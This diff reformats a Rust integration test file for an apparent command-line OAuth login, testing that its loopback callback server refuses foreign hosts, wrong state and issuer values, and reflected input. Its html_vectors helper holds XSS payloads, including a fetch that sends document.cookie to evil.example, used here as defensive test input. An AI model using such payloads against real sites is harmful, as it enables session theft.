@@ -37,8 +37,17 @@ impl Waiting {
         let mut login = prepare(Program::login(&fake)).start();
         let url = login.authorization_url();
         let good = login.redirect(&url);
-        let address = url::Url::parse(&good).expect("a URL").socket_addrs(|| None).expect("an address")[0];
-        Self { fake, login, url, good, address }
+        let address = url::Url::parse(&good)
+            .expect("a URL")
+            .socket_addrs(|| None)
+            .expect("an address")[0];
+        Self {
+            fake,
+            login,
+            url,
+            good,
+            address,
+        }
     }
 
     fn state(&self) -> String {
@@ -51,12 +60,18 @@ impl Waiting {
 
     /// Returns the path and query of the good callback.
     fn target(&self) -> &str {
-        self.good.split_once(&self.address.to_string()).expect("our address").1
+        self.good
+            .split_once(&self.address.to_string())
+            .expect("our address")
+            .1
     }
 
     /// Sends a `GET` with these header lines.
     fn get(&self, target: &str, headers: &str) -> Answer {
-        let head = format!("GET {target} HTTP/1.1\r\nHost: {}\r\n{headers}\r\n", self.address);
+        let head = format!(
+            "GET {target} HTTP/1.1\r\nHost: {}\r\n{headers}\r\n",
+            self.address
+        );
         send(self.address, head.as_bytes())
     }
 
@@ -94,16 +109,27 @@ fn n1_n2_the_redirect_uri_is_the_same_everywhere_and_its_port_never_fixed() {
     let mut ports = BTreeSet::new();
     for _ in 0..3 {
         let mut login = Program::login(&fake).start();
-        let listening = login.event("listening")["redirect_uri"].as_str().expect("a URI").to_owned();
+        let listening = login.event("listening")["redirect_uri"]
+            .as_str()
+            .expect("a URI")
+            .to_owned();
         let asked = login.event("authorization_url");
         assert_eq!(asked["redirect_uri"], listening.as_str());
         let url = asked["url"].as_str().expect("a URL");
-        assert_eq!(parameter(url, "redirect_uri").as_deref(), Some(listening.as_str()));
+        assert_eq!(
+            parameter(url, "redirect_uri").as_deref(),
+            Some(listening.as_str())
+        );
         assert_eq!(visit(&login.redirect(url)).status, 200);
         login.finish().expect(0);
         let exchanged = fake.seen_at("/token").pop().expect("a token request");
-        assert_eq!(exchanged.parameter("redirect_uri").as_deref(), Some(listening.as_str()));
-        let port = listening.strip_prefix("http://127.0.0.1:").expect("the literal address");
+        assert_eq!(
+            exchanged.parameter("redirect_uri").as_deref(),
+            Some(listening.as_str())
+        );
+        let port = listening
+            .strip_prefix("http://127.0.0.1:")
+            .expect("the literal address");
         ports.insert(port.strip_suffix("/callback").expect("the path").to_owned());
     }
     assert_eq!(ports.len(), 3, "{ports:?}");
@@ -115,10 +141,13 @@ fn n8_registration_tells_of_a_native_client_without_a_secret() {
     let mut login = Program::login(&fake).start();
     login.agree();
     login.finish().expect(0);
-    let asked: serde_json::Value = serde_json::from_str(&fake.seen_at("/register")[0].body).expect("JSON");
+    let asked: serde_json::Value =
+        serde_json::from_str(&fake.seen_at("/register")[0].body).expect("JSON");
     assert_eq!(asked["token_endpoint_auth_method"], "none");
     assert_eq!(asked["application_type"], "native");
-    assert!(fake.seen_at("/token")[0].parameter("client_secret").is_none());
+    assert!(fake.seen_at("/token")[0]
+        .parameter("client_secret")
+        .is_none());
 }
 
 #[test]
@@ -132,7 +161,10 @@ fn n5_l16_the_port_is_open_only_while_it_is_waited_for() {
     let fake = Fake::start();
     let mut late = Waiting::at(fake, |program| program.args(["--timeout", "1s"]));
     late.login.event("error");
-    let (address, finished) = (late.address, late.login.finish().expect_error(4, "timed_out"));
+    let (address, finished) = (
+        late.address,
+        late.login.finish().expect_error(4, "timed_out"),
+    );
     TcpStream::connect(address).expect_err("closed after the deadline");
     assert!(finished.stderr.contains("--timeout"), "{}", finished.stderr);
 }
@@ -144,9 +176,14 @@ fn v7_only_loopback_is_listened_on() {
     }
     let waiting = Waiting::new();
     let port = waiting.address.port().to_string();
-    let listed = std::process::Command::new("ss").args(["-H", "-ltn", &format!("sport = :{port}")]).output();
+    let listed = std::process::Command::new("ss")
+        .args(["-H", "-ltn", &format!("sport = :{port}")])
+        .output();
     let listed = String::from_utf8(listed.expect("ss").stdout).expect("text");
-    let local: Vec<_> = listed.lines().filter_map(|line| line.split_whitespace().nth(3)).collect();
+    let local: Vec<_> = listed
+        .lines()
+        .filter_map(|line| line.split_whitespace().nth(3))
+        .collect();
     assert_eq!(local, [format!("127.0.0.1:{port}")], "{listed}");
     waiting.succeeds();
 }
@@ -154,7 +191,12 @@ fn v7_only_loopback_is_listened_on() {
 #[test]
 fn n7_l4_l7_other_paths_and_methods_are_answered_and_change_nothing() {
     let waiting = Waiting::new();
-    let query = waiting.target().split_once('?').expect("a query").1.to_owned();
+    let query = waiting
+        .target()
+        .split_once('?')
+        .expect("a query")
+        .1
+        .to_owned();
     let host = format!("Host: {}\r\n\r\n", waiting.address);
     for (target, status) in [
         ("/", 404),
@@ -176,25 +218,48 @@ fn n7_l4_l7_other_paths_and_methods_are_answered_and_change_nothing() {
         waiting.refuses(target, &answer, status);
         assert_eq!(answer.body.is_empty(), status == 204, "{answer:?}");
     }
-    for method in ["HEAD", "OPTIONS", "PUT", "POST", "DELETE", "PATCH", "TRACE", "CONNECT"] {
+    for method in [
+        "HEAD", "OPTIONS", "PUT", "POST", "DELETE", "PATCH", "TRACE", "CONNECT",
+    ] {
         for (path, status) in [("/callback", 405), ("/other", 404)] {
-            let answer = send(waiting.address, format!("{method} {path}?{query} HTTP/1.1\r\n{host}").as_bytes());
+            let answer = send(
+                waiting.address,
+                format!("{method} {path}?{query} HTTP/1.1\r\n{host}").as_bytes(),
+            );
             waiting.refuses(&format!("{method} {path}"), &answer, status);
         }
     }
-    let form = format!("Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n{host}", query.len());
-    let answer = send(waiting.address, format!("POST /callback HTTP/1.1\r\n{form}{query}").as_bytes());
+    let form = format!(
+        "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n{host}",
+        query.len()
+    );
+    let answer = send(
+        waiting.address,
+        format!("POST /callback HTTP/1.1\r\n{form}{query}").as_bytes(),
+    );
     waiting.refuses("a form", &answer, 405);
     assert_eq!(answer.header("allow"), Some("GET"));
     let finished = waiting.succeeds();
-    assert!(finished.events.iter().all(|event| event["event"] != "rejected"), "{}", finished.stdout);
+    assert!(
+        finished
+            .events
+            .iter()
+            .all(|event| event["event"] != "rejected"),
+        "{}",
+        finished.stdout
+    );
 }
 
 #[test]
 fn v4_hosts_of_other_machines_are_refused() {
     let waiting = Waiting::new();
     let (target, port) = (waiting.target().to_owned(), waiting.address.port());
-    let get = |headers: &str| send(waiting.address, format!("GET {target} HTTP/1.1\r\n{headers}\r\n").as_bytes());
+    let get = |headers: &str| {
+        send(
+            waiting.address,
+            format!("GET {target} HTTP/1.1\r\n{headers}\r\n").as_bytes(),
+        )
+    };
     for host in [
         "evil.example",
         &format!("evil.example:{port}"),
@@ -207,10 +272,15 @@ fn v4_hosts_of_other_machines_are_refused() {
     ] {
         let answer = get(&format!("Host: {host}\r\n"));
         waiting.refuses(host, &answer, 421);
-        assert!(!answer.head.to_ascii_lowercase().contains("access-control"), "{answer:?}");
+        assert!(
+            !answer.head.to_ascii_lowercase().contains("access-control"),
+            "{answer:?}"
+        );
     }
     waiting.refuses("no host", &get(""), 421);
-    let twice = get(&format!("Host: 127.0.0.1:{port}\r\nHost: 127.0.0.1:{port}\r\n"));
+    let twice = get(&format!(
+        "Host: 127.0.0.1:{port}\r\nHost: 127.0.0.1:{port}\r\n"
+    ));
     waiting.refuses("two hosts", &twice, 421);
     waiting.succeeds();
 }
@@ -265,10 +335,19 @@ fn l8_v9_v6_a_callback_without_our_state_changes_nothing() {
         format!("state=%20{state}"),
         format!("state={state}%00"),
     ] {
-        for rest in [format!("code={code}"), "error=access_denied".to_owned(), String::new()] {
+        for rest in [
+            format!("code={code}"),
+            "error=access_denied".to_owned(),
+            String::new(),
+        ] {
             let answer = waiting.get(&format!("/callback?{wrong}&{rest}"), "");
             waiting.refuses(&format!("{wrong} {rest}"), &answer, 400);
-            assert!(answer.body.contains("does not belong to the login that is running"), "{answer:?}");
+            assert!(
+                answer
+                    .body
+                    .contains("does not belong to the login that is running"),
+                "{answer:?}"
+            );
         }
     }
     let rejected = waiting.login.event("rejected");
@@ -278,7 +357,11 @@ fn l8_v9_v6_a_callback_without_our_state_changes_nothing() {
         "{rejected}"
     );
     let finished = waiting.succeeds();
-    assert!(finished.stderr.contains("to another login"), "{}", finished.stderr);
+    assert!(
+        finished.stderr.contains("to another login"),
+        "{}",
+        finished.stderr
+    );
     // The other login took no harm either.
     visit(&other.good);
     other.login.finish().expect(0);
@@ -323,11 +406,19 @@ fn l11_l12_what_is_ambiguous_or_cannot_be_read_changes_nothing() {
     // Here `;` is no separator, so this is another state.
     let answer = waiting.get(&format!("/callback?state={state};code={code}"), "");
     waiting.refuses("a semicolon", &answer, 400);
-    for reason in ["ambiguous", "issuer_mismatch", "malformed", "state_mismatch"] {
+    for reason in [
+        "ambiguous",
+        "issuer_mismatch",
+        "malformed",
+        "state_mismatch",
+    ] {
         while waiting.login.event("rejected")["reason"] != reason {}
     }
     // Encoded names are names, and names of strangers are not even decoded.
-    waiting.good = format!("http://{}/callback?%63ode={code}&st%61te={state}&session_state=%zz&x=%00", waiting.address);
+    waiting.good = format!(
+        "http://{}/callback?%63ode={code}&st%61te={state}&session_state=%zz&x=%00",
+        waiting.address
+    );
     waiting.succeeds();
 }
 
@@ -352,13 +443,20 @@ fn b1_an_answer_of_another_issuer_is_neither_taken_nor_shown() {
     waiting.login.event("rejected");
     waiting.good = format!("{}&iss={}", waiting.good, encode(&issuer));
     let finished = waiting.succeeds();
-    assert!(!finished.stderr.contains("CANARY") && !finished.stdout.contains("CANARY"), "{}", finished.stderr);
+    assert!(
+        !finished.stderr.contains("CANARY") && !finished.stdout.contains("CANARY"),
+        "{}",
+        finished.stderr
+    );
 }
 
 #[test]
 fn l9_a_refusal_with_our_state_ends_the_login() {
     let waiting = Waiting::new();
-    let target = format!("/callback?error=access_denied&error_description=I+said+no&state={}", waiting.state());
+    let target = format!(
+        "/callback?error=access_denied&error_description=I+said+no&state={}",
+        waiting.state()
+    );
     let page = waiting.get(&target, "");
     assert_eq!(page.status, 200);
     assert!(page.body.contains("The login was refused"), "{page:?}");
@@ -371,12 +469,19 @@ fn l9_a_refusal_with_our_state_ends_the_login() {
 fn l10_a_server_that_is_busy_can_be_tried_again() {
     for error in ["server_error", "temporarily_unavailable", "slow_down"] {
         let mut waiting = Waiting::new();
-        let target = format!("/callback?error={error}&error_description=later&state={}", waiting.state());
+        let target = format!(
+            "/callback?error={error}&error_description=later&state={}",
+            waiting.state()
+        );
         let page = waiting.get(&target, "");
         waiting.refuses(error, &page, 503);
         assert_eq!(waiting.login.event("rejected")["reason"], "temporary");
         let finished = waiting.succeeds();
-        assert!(finished.stderr.contains("later") && finished.stderr.contains(error), "{}", finished.stderr);
+        assert!(
+            finished.stderr.contains("later") && finished.stderr.contains(error),
+            "{}",
+            finished.stderr
+        );
     }
 }
 
@@ -387,15 +492,28 @@ fn l14_an_address_without_an_answer_asks_for_the_whole_one() {
     let page = waiting.get("/callback", "");
     waiting.refuses("bare", &page, 400);
     assert!(page.body.contains("paste it into the terminal"), "{page:?}");
-    waiting.login.type_in(&format!("{}\n", waiting.good.replace('?', "#")));
+    waiting
+        .login
+        .type_in(&format!("{}\n", waiting.good.replace('?', "#")));
     let finished = waiting.login.finish().expect(0);
-    assert!(finished.events.iter().all(|event| event["event"] != "rejected"), "{}", finished.stdout);
+    assert!(
+        finished
+            .events
+            .iter()
+            .all(|event| event["event"] != "rejected"),
+        "{}",
+        finished.stdout
+    );
 }
 
 #[test]
 fn v5_no_byte_of_a_request_is_in_an_answer() {
     let without_date = |answer: &Answer| {
-        let head: Vec<_> = answer.head.lines().filter(|line| !line.starts_with("Date:")).collect();
+        let head: Vec<_> = answer
+            .head
+            .lines()
+            .filter(|line| !line.starts_with("Date:"))
+            .collect();
         (answer.status, head.join("\n"), answer.body.clone())
     };
     let vectors = html_vectors();
@@ -404,24 +522,44 @@ fn v5_no_byte_of_a_request_is_in_an_answer() {
     let state = waiting.state();
     let plain = without_date(&waiting.get("/callback?code=x", ""));
     let nothing = without_date(&waiting.get("/x", ""));
-    let ambiguous = without_date(&waiting.get(&format!("/callback?state={state}&code=x&error=y"), ""));
-    let busy = without_date(&waiting.get(&format!("/callback?state={state}&error=server_error"), ""));
+    let ambiguous =
+        without_date(&waiting.get(&format!("/callback?state={state}&code=x&error=y"), ""));
+    let busy =
+        without_date(&waiting.get(&format!("/callback?state={state}&error=server_error"), ""));
     let mut tried = 0;
     for vector in &vectors {
         let text = encode(vector);
-        for parameter in ["code", "error", "error_description", "error_uri", "state", "iss"] {
+        for parameter in [
+            "code",
+            "error",
+            "error_description",
+            "error_uri",
+            "state",
+            "iss",
+        ] {
             let target = format!("/callback?{parameter}={text}&x=y");
             assert_eq!(without_date(&waiting.get(&target, "")), plain, "{target}");
             tried += 1;
         }
         assert_eq!(without_date(&waiting.get(&format!("/{text}"), "")), nothing);
-        let target = format!("/callback?state={state}&code={text}&error={text}&error_description={text}");
-        assert_eq!(without_date(&waiting.get(&target, "")), ambiguous, "{target}");
-        let target = format!("/callback?state={state}&error=server_error&error_description={text}&error_uri={text}");
+        let target =
+            format!("/callback?state={state}&code={text}&error={text}&error_description={text}");
+        assert_eq!(
+            without_date(&waiting.get(&target, "")),
+            ambiguous,
+            "{target}"
+        );
+        let target = format!(
+            "/callback?state={state}&error=server_error&error_description={text}&error_uri={text}"
+        );
         assert_eq!(without_date(&waiting.get(&target, "")), busy, "{target}");
         let headers = format!("User-Agent: {vector}\r\nReferer: {vector}\r\nCookie: {vector}\r\n");
         let headers: String = headers.chars().filter(char::is_ascii).collect();
-        assert_eq!(without_date(&waiting.get("/x", &headers)), nothing, "{headers}");
+        assert_eq!(
+            without_date(&waiting.get("/x", &headers)),
+            nothing,
+            "{headers}"
+        );
     }
     assert!(tried >= 200, "{tried}");
     waiting.succeeds();
@@ -429,16 +567,26 @@ fn v5_no_byte_of_a_request_is_in_an_answer() {
     // A page that ends the login is constant too.
     let refused = |words: &str| {
         let waiting = Waiting::new();
-        let target = format!("/callback?state={}&error={words}&error_description={words}", waiting.state());
+        let target = format!(
+            "/callback?state={}&error={words}&error_description={words}",
+            waiting.state()
+        );
         let page = without_date(&waiting.get(&target, ""));
         waiting.login.finish().expect(3);
         page
     };
-    assert_eq!(refused(&encode("<script>alert(1)</script>")), refused("access_denied"));
+    assert_eq!(
+        refused(&encode("<script>alert(1)</script>")),
+        refused("access_denied")
+    );
 }
 
 fn html_vectors() -> Vec<String> {
-    let payloads = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "location='javascript:alert(1)'"];
+    let payloads = [
+        "alert(1)",
+        "fetch('//evil.example/'+document.cookie)",
+        "location='javascript:alert(1)'",
+    ];
     let frames = [
         "<script>PAYLOAD</script>",
         "<ScRiPt>PAYLOAD</sCrIpT>",
@@ -453,7 +601,10 @@ fn html_vectors() -> Vec<String> {
         "+ADw-script+AD4-PAYLOAD+ADw-/script+AD4-",
         "<meta http-equiv=refresh content=\"0;url=javascript:PAYLOAD\">",
     ];
-    frames.iter().flat_map(|frame| payloads.map(|payload| frame.replace("PAYLOAD", payload))).collect()
+    frames
+        .iter()
+        .flat_map(|frame| payloads.map(|payload| frame.replace("PAYLOAD", payload)))
+        .collect()
 }
 
 #[test]
@@ -473,7 +624,9 @@ fn b10_the_page_leaks_and_loads_nothing() {
     let policy = page.header("content-security-policy").expect("a policy");
     assert!(policy.starts_with("default-src 'none'"), "{policy}");
     let body = page.body.to_ascii_lowercase();
-    for forbidden in ["<script", "<a ", "<link", "<img", "src=", "href=", "http:", "https:", "url(", "@import"] {
+    for forbidden in [
+        "<script", "<a ", "<link", "<img", "src=", "href=", "http:", "https:", "url(", "@import",
+    ] {
         assert!(!body.contains(forbidden), "{forbidden} in {body}");
     }
 }
@@ -497,15 +650,29 @@ fn l15_ten_callbacks_at_once_are_one_answer() {
         .collect();
     wait_for("the exchange", || waiting.fake.seen_at("/token").pop());
     // Another code with the right state is too late.
-    let other = waiting.get(&format!("/callback?state={}&code=another", waiting.state()), "");
+    let other = waiting.get(
+        &format!("/callback?state={}&code=another", waiting.state()),
+        "",
+    );
     assert_eq!(other.status, 400, "{other:?}");
     gate.open();
-    let pages: Vec<_> = visitors.into_iter().map(|visitor| visitor.join().expect("a visit")).collect();
+    let pages: Vec<_> = visitors
+        .into_iter()
+        .map(|visitor| visitor.join().expect("a visit"))
+        .collect();
     waiting.login.finish().expect(0);
     assert_eq!(waiting.fake.seen_at("/token").len(), 1);
-    let told = pages.iter().filter(|page| page.body.contains("You are logged in")).count();
+    let told = pages
+        .iter()
+        .filter(|page| page.body.contains("You are logged in"))
+        .count();
     assert!(told >= 1, "{pages:?}");
-    assert!(pages.iter().all(|page| page.status == 200 || page.status == 0), "{pages:?}");
+    assert!(
+        pages
+            .iter()
+            .all(|page| page.status == 200 || page.status == 0),
+        "{pages:?}"
+    );
 }
 
 #[test]
@@ -515,7 +682,10 @@ fn l19_others_are_answered_during_the_exchange_and_the_page_tells_the_truth() {
     let fake = Fake::with(move |seen, _| {
         (seen.path == "/token").then(|| {
             held.pass();
-            Reply::json(400, &json!({"error": "invalid_grant", "error_description": "too late"}))
+            Reply::json(
+                400,
+                &json!({"error": "invalid_grant", "error_description": "too late"}),
+            )
         })
     });
     let waiting = Waiting::at(fake, |program| program);
@@ -528,7 +698,10 @@ fn l19_others_are_answered_during_the_exchange_and_the_page_tells_the_truth() {
     gate.open();
     let page = visitor.join().expect("a visit");
     assert_eq!(page.status, 500);
-    assert!(page.body.contains("The login failed") && !page.body.contains("too late"), "{page:?}");
+    assert!(
+        page.body.contains("The login failed") && !page.body.contains("too late"),
+        "{page:?}"
+    );
     let finished = waiting.login.finish().expect_error(3, "invalid_grant");
     assert!(finished.stderr.contains("too late"), "{}", finished.stderr);
     assert!(!finished.credentials_path().exists(), "nothing is kept");
@@ -548,11 +721,21 @@ fn l19_a_slow_exchange_outlives_the_deadline_and_is_kept() {
     let waiting = Waiting::at(fake, |program| program.args(["--timeout", "3s"]));
     let started = Instant::now();
     let page = visit(&waiting.good);
-    assert!(page.body.contains("The terminal will say how it ends"), "{page:?}");
-    assert!(started.elapsed() >= Duration::from_secs(9), "{:?}", started.elapsed());
+    assert!(
+        page.body.contains("The terminal will say how it ends"),
+        "{page:?}"
+    );
+    assert!(
+        started.elapsed() >= Duration::from_secs(9),
+        "{:?}",
+        started.elapsed()
+    );
     gate.open();
     let finished = waiting.login.finish().expect(0);
-    assert_eq!(finished.kept(&waiting.fake.mcp())["refresh_token"], "refresh-1");
+    assert_eq!(
+        finished.kept(&waiting.fake.mcp())["refresh_token"],
+        "refresh-1"
+    );
 }
 
 #[test]
